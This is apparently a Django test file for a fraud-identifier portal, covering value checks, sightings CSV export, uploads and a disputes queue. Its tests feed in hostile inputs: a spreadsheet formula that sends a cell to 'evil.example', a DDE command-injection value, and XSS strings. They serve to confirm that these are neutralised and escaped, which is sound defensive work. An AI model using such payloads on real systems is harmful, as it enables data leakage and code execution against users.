"""Portal pages: check, our sightings with CSV export, uploads, and the disputes queue."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from ketenwacht.audit.models import AuditEvent
from ketenwacht.identifiers.constants import DisputeStatus, UploadStatus
from ketenwacht.identifiers.models import Dispute, Sighting, SightingUpload
from ketenwacht.identifiers.tests.factories import (
    IBAN,
    MOBILE,
    PNG_BYTES,
    Circle,
    DisputeFactory,
    SightingFactory,
    SightingUploadFactory,
    pseudonym_for,
)
from ketenwacht.identifiers.tests.test_disputes import list_value
from ketenwacht.partners.constants import Role
from ketenwacht.partners.tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

LoginClient = Callable[..., Client]


def csv_rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --- check --------------------------------------------------------------------------------------


def test_check_one_value(circle: Circle, login_client: LoginClient) -> None:
    list_value(circle)
    client = login_client(Role.PARTNER_ANALYST, circle.members[2])
    response = client.post(
        "/portal/identifiers/check/",
        {"action": "one", "one-value": "nl91abna0417164300"},
        HTTP_ACCEPT_LANGUAGE="nl",
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "NL91 ABNA 0417 1643 00" in content and "level--warning" in content
    assert "Gemeld door 2 organisaties" in content


def test_check_a_pasted_list_with_a_bad_item(circle: Circle, login_client: LoginClient) -> None:
    list_value(circle)
    client = login_client(Role.DESK_AGENT, circle.members[2])
    pasted = f"{IBAN}\n\n111222333\n{MOBILE}\n<b>geen</b>\n"
    response = client.post(
        "/portal/identifiers/check/", {"action": "list", "list-values": pasted, "list-kind": ""}
    )
    assert response.status_code == 200
    rows = response.context["rows"]
    assert [(row["number"], row["ok"]) for row in rows] == [
        (1, True),
        (2, False),
        (3, True),
        (4, False),
    ]
    assert rows[0]["level"] == "warning" and rows[2]["level"] == "none"
    assert "BSN" in rows[1]["error"]
    content = response.content.decode()
    assert "&lt;b&gt;geen&lt;/b&gt;" in content and "<b>geen</b>" not in content
    event = AuditEvent.objects.get(action="identifiers.check", object_type="check_batch")
    assert event.details["count"] == 4 and event.details["failed"] == 2


def test_check_list_has_a_line_limit(circle: Circle, login_client: LoginClient) -> None:
    client = login_client(Role.PARTNER_ANALYST, circle.members[0])
    pasted = "\n".join([IBAN] * 1001)
    response = client.post("/portal/identifiers/check/", {"action": "list", "list-values": pasted})
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action="identifiers.check").exists()


# --- our sightings ------------------------------------------------------------------------------


def test_sightings_are_filtered_and_paginated(circle: Circle, login_client: LoginClient) -> None:
    mine, other = circle.members[0], circle.members[1]
    for _n in range(55):
        SightingFactory.create(circle=circle, organisation=mine, fraud_type="purchase")
    SightingFactory.create(
        circle=circle,
        organisation=mine,
        value=MOBILE,
        fraud_type="bankhelpdesk",
        role="caller_number",
        confirmed=True,
    )
    SightingFactory.create(circle=circle, organisation=mine, weeks_old=True, fraud_type="purchase")
    SightingFactory.create(circle=circle, organisation=other, fraud_type="purchase")
    client = login_client(Role.PARTNER_ANALYST, mine)

    first = client.get("/portal/identifiers/sightings/")
    assert first.context["page"].paginator.count == 57  # not the other organisation's
    assert len(first.context["page"].object_list) == 50
    second = client.get("/portal/identifiers/sightings/", {"page": 2})
    assert len(second.context["page"].object_list) == 7

    def count(**filters: str) -> int:
        response = client.get("/portal/identifiers/sightings/", filters)
        assert response.status_code == 200
        return int(response.context["page"].paginator.count)

    assert count(kind="phone") == 1
    assert count(fraud_type="bankhelpdesk") == 1
    assert count(confidence="confirmed") == 1
    today = timezone.localdate().isoformat()
    assert count(observed_from=today) == 56
    assert count(observed_to=(timezone.localdate() - timedelta(days=1)).isoformat()) == 1
    paged = client.get("/portal/identifiers/sightings/", {"kind": "iban", "page": "2"}).content
    assert b'href="?kind=iban&amp;page=1"' in paged  # filters survive paging


def test_invalid_filters_are_explained(circle: Circle, login_client: LoginClient) -> None:
    client = login_client(Role.PARTNER_ANALYST, circle.members[0])
    response = client.get(
        "/portal/identifiers/sightings/",
        {"observed_from": "2026-02-01", "observed_to": "2026-01-01"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400
    assert "The end date lies before the start date." in response.content.decode()


def test_csv_export_neutralises_formulas(circle: Circle, login_client: LoginClient) -> None:
    """Cells a spreadsheet would run as formulas start with an apostrophe instead."""
    mine = circle.members[0]
    hostile = pseudonym_for(IBAN)
    hostile.display_hint = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'
    hostile.save()
    SightingFactory.create(circle=circle, organisation=mine, fraud_type="+cmd|' /C calc'!A0")
    SightingFactory.create(
        circle=circle, organisation=mine, value=MOBILE, role="caller_number", fraud_type="-2+3"
    )
    SightingFactory.create(
        circle=circle,
        organisation=mine,
        value="+31201234567",
        role="caller_number",
        fraud_type="@SUM(1+1)",
    )
    client = login_client(Role.PARTNER_ANALYST, mine)
    response = client.get("/portal/identifiers/sightings.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="sightings.csv"'
    rows = csv_rows(response)
    header, data = rows[0], rows[1:]
    assert header[:3] == ["id", "kind", "display_hint"]
    cells = [cell for row in data for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"klik")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert AuditEvent.objects.filter(action="sightings.export").count() == 1


def test_csv_export_applies_the_filters(circle: Circle, login_client: LoginClient) -> None:
    mine = circle.members[0]
    SightingFactory.create(circle=circle, organisation=mine)
    SightingFactory.create(circle=circle, organisation=mine, value=MOBILE, role="caller_number")
    client = login_client(Role.PARTNER_ANALYST, mine)
    rows = csv_rows(client.get("/portal/identifiers/sightings.csv", {"kind": "phone"}))
    assert [row[1] for row in rows[1:]] == ["phone"]


# --- uploads ------------------------------------------------------------------------------------


def upload_file(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("mijn-lijst.csv", text.encode(), content_type="text/csv")


def test_upload_preview_confirm_and_error_report(circle: Circle, login_client: LoginClient) -> None:
    client = login_client(Role.PARTNER_ANALYST, circle.members[0])
    text = (
        "value,fraud_type,role\n"
        "NL91ABNA0417164300,purchase,beneficiary_account\n"
        "NL91ABNA0417164301,purchase,beneficiary_account\n"
        "+31612345678,bankhelpdesk,caller_number\n"
        '=HYPERLINK("x"),purchase,beneficiary_account\n'
    )
    response = client.post("/portal/identifiers/uploads/", {"file": upload_file(text)})
    upload = SightingUpload.objects.get()
    assert (
        response.status_code == 302
        and response["Location"] == f"/portal/identifiers/uploads/{upload.uuid}/"
    )

    preview = client.get(response["Location"], HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "NL91ABNA0417164301" in preview and "Confirm and record" in preview
    assert "&lt;" not in preview and "=HYPERLINK(&quot;x&quot;)" in preview
    assert not Sighting.objects.exists()

    confirmed = client.post(response["Location"], {"action": "confirm"})
    assert confirmed.status_code == 302
    page = client.get(response["Location"], HTTP_ACCEPT_LANGUAGE="en")
    assert page.context["upload"].status == UploadStatus.DONE
    assert [e["row_number"] for e in page.context["errors"]] == [3, 5]
    assert "Refresh" not in page
    assert Sighting.objects.count() == 2

    report = client.get(f"{response['Location']}errors.csv")
    rows = csv_rows(report)
    assert rows[0] == ["row", "code", "field", "detail"]
    assert [row[0] for row in rows[1:]] == ["3", "5"]
    assert [row[1:3] for row in rows[1:]] == [["iban_checksum", "value"], ["unrecognised", "value"]]
    assert rows[1][3].endswith("IBAN check digits are wrong")


def test_upload_atomic_option_on_the_form(circle: Circle, login_client: LoginClient) -> None:
    client = login_client(Role.PARTNER_ANALYST, circle.members[0])
    text = (
        "value,fraud_type,role\n"
        "NL91ABNA0417164300,purchase,beneficiary_account\n"
        "NL91ABNA0417164301,purchase,beneficiary_account\n"
    )
    response = client.post(
        "/portal/identifiers/uploads/", {"file": upload_file(text), "atomic": "on"}
    )
    client.post(response["Location"], {"action": "confirm"})
    upload = SightingUpload.objects.get()
    assert upload.atomic and upload.status == UploadStatus.REJECTED
    assert not Sighting.objects.exists()
    assert (
        "Nothing was recorded"
        in client.get(response["Location"], HTTP_ACCEPT_LANGUAGE="en").content.decode()
    )


def test_upload_refuses_unreadable_files_on_the_form(
    circle: Circle, login_client: LoginClient
) -> None:
    client = login_client(Role.PARTNER_ANALYST, circle.members[0])
    response = client.post(
        "/portal/identifiers/uploads/",
        {"file": upload_file("naam,rol\na,b\n")},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400
    assert "Unknown columns: naam, rol" in response.content.decode()
    assert not SightingUpload.objects.exists()


def test_progress_page_reloads_itself_until_stopped(
    circle: Circle, login_client: LoginClient
) -> None:
    mine = circle.members[0]
    upload = SightingUploadFactory.create(
        organisation=mine, processing=True, total_rows=10_000, processed_rows=4000
    )
    client = login_client(Role.PARTNER_ANALYST, mine)
    url = f"/portal/identifiers/uploads/{upload.uuid}/"
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response["Refresh"] == "3"
    content = response.content.decode()
    assert '<progress id="upload-progress" max="10000" value="4000">40%</progress>' in content
    assert "4000 of 10000 rows processed" in content and 'href="?refresh=off"' in content
    stopped = client.get(url, {"refresh": "off"})
    assert "Refresh" not in stopped


def test_uploads_of_other_organisations_are_not_found(
    circle: Circle, login_client: LoginClient
) -> None:
    upload = SightingUploadFactory.create(organisation=circle.members[1])
    client = login_client(Role.PARTNER_ANALYST, circle.members[0])
    assert client.get(f"/portal/identifiers/uploads/{upload.uuid}/").status_code == 404
    assert client.get(f"/portal/identifiers/uploads/{upload.uuid}/errors.csv").status_code == 404
    assert (
        client.post(
            f"/portal/identifiers/uploads/{upload.uuid}/", {"action": "confirm"}
        ).status_code
        == 404
    )
    assert SightingUpload.objects.get(pk=upload.pk).status == UploadStatus.UPLOADED


# --- disputes queue -----------------------------------------------------------------------------


@pytest.fixture
def programme(db: None) -> Any:
    return OrganisationFactory.create(sector="programme")


XSS_NAME = '<img src=x onerror="alert(1)">'
XSS_STATEMENT = '<script>alert("xss")</script> en "quotes" & <b>vet</b>'


def test_dispute_text_is_rendered_escaped(
    circle: Circle, login_client: LoginClient, programme: Any
) -> None:
    list_value(circle)
    dispute = DisputeFactory.create(name=XSS_NAME, statement=XSS_STATEMENT)
    client = login_client(Role.PROGRAMME_TEAM, programme)
    content = client.get(f"/portal/identifiers/disputes/{dispute.pk}/").content.decode()
    assert (
        "<script>alert" not in content and XSS_NAME not in content and "<b>vet</b>" not in content
    )
    assert "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in content
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in content
    listing = client.get("/portal/identifiers/disputes/").content.decode()
    assert dispute.display_hint in listing


def test_disputes_queue_four_eyes_through_the_pages(
    circle: Circle, login_client: LoginClient, programme: Any
) -> None:
    list_value(circle)
    dispute = DisputeFactory.create()
    first = login_client(Role.PROGRAMME_TEAM, programme)
    second = login_client(Role.PROGRAMME_TEAM, programme)
    url = f"/portal/identifiers/disputes/{dispute.pk}/"

    proposed = first.post(
        url, {"action": "propose", "outcome": "upheld", "reason": "Rekening werd misbruikt."}
    )
    assert proposed.status_code == 302
    own = first.get(url).content.decode()
    assert 'value="approve"' not in own  # the proposer gets no approve button
    refused = first.post(url, {"action": "approve", "decide-note": ""}, HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 400
    assert "four eyes" in refused.content.decode()
    assert Dispute.objects.get().status == DisputeStatus.OPEN

    approved = second.post(url, {"action": "approve", "decide-note": "Akkoord."})
    assert approved.status_code == 302
    assert Dispute.objects.get().status == DisputeStatus.UPHELD
    assert not Sighting.objects.exists()
    history = second.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "<td>Decided: upheld</td>" in history and "open → upheld" in history


def test_evidence_is_downloaded_never_shown_inline(
    circle: Circle, login_client: LoginClient, programme: Any
) -> None:
    from ketenwacht.identifiers import disputes
    from ketenwacht.partners.access import Actor

    list_value(circle)
    dispute = disputes.dispute_submit(
        actor=Actor(client_address="198.51.100.7"),
        value=IBAN,
        name="Jan",
        email="jan@example.org",
        statement="Dit is mijn rekening, echt waar, al twintig jaar.",
        evidence=[SimpleUploadedFile('foto"><script>.png', PNG_BYTES)],
    )
    evidence = dispute.evidence.get()
    client = login_client(Role.PROGRAMME_TEAM, programme)
    response = client.get(f"/portal/identifiers/disputes/{dispute.pk}/evidence/{evidence.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PNG_BYTES  # type: ignore[attr-defined]
    assert AuditEvent.objects.filter(action="dispute.evidence_download").count() == 1
    analyst = login_client(Role.PARTNER_ANALYST, circle.members[0])
    denied = analyst.get(f"/portal/identifiers/disputes/{dispute.pk}/evidence/{evidence.pk}/")
    assert denied.status_code == 403


def test_tiles_show_the_new_pages_per_role(
    circle: Circle, login_client: LoginClient, programme: Any
) -> None:
    analyst = login_client(Role.PARTNER_ANALYST, circle.members[0]).get("/portal/").content
    assert b'href="/portal/identifiers/check/"' in analyst
    assert b'href="/portal/identifiers/uploads/"' in analyst
    assert b'href="/portal/identifiers/disputes/"' not in analyst
    team = login_client(Role.PROGRAMME_TEAM, programme).get("/portal/").content
    assert b'href="/portal/identifiers/disputes/"' in team
    assert b'href="/portal/identifiers/uploads/"' not in team
